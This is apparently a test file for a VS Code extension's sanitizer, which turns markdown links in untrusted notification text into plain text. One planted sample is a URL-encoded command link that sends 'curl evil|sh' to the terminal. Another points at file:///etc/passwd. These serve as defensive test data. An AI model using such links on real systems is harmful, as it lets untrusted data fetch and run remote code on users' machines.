import assert from 'node:assert/strict';
import { plainText } from '../../../src/ui/plainText';
import { notificationLinks as links } from '../../support/notificationLinks';

const PLANTED = 'http://localhost:3000/webhooks#[http://localhost:3000/webhooks](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';

suite('plain text before every notification', () => {
  test('no [text](link) from data is a link any more, whatever its target', () => {
    for (const text of [
      `Forwarded to ${PLANTED}: your app answered 200.`,
      '[a](https://example.com) [b](file:///etc/passwd) [c](COMMAND:x) [d](http://x "title")',
      'back to back [a](command:a)[b](command:b), and across a line [c]\n(command:c)',
    ]) {
      assert.deepEqual(links(text).length > 0, true, `the sample has a link: ${text}`);
      assert.deepEqual(links(plainText(text)), [], plainText(text));
    }
  });

  test('the text still reads as it was: only the link syntax is broken', () => {
    assert.equal(plainText(`to ${PLANTED}.`), `to ${PLANTED.replace('](', '] (')}.`);
    assert.equal(plainText('Port 8787 is in use (by another program) [sic]'), 'Port 8787 is in use (by another program) [sic]');
  });

  test('a link the extension writes itself passes when its target is one of its own', () => {
    const own = 'Having trouble? [Paste the callback URL](command:intercom.pasteCallbackUrl) the bridge page shows.';
    assert.deepEqual(links(plainText(own, ['command:intercom.pasteCallbackUrl'])), ['command:intercom.pasteCallbackUrl']);
    assert.deepEqual(links(plainText(own)), [], 'not without being named');
    // The same target with arguments, or a longer one, is data's, not ours.
    const planted = '[x](command:intercom.pasteCallbackUrl?%5B1%5D) [y](command:intercom.pasteCallbackUrlX)';
    assert.deepEqual(links(plainText(planted, ['command:intercom.pasteCallbackUrl'])), []);
  });
});
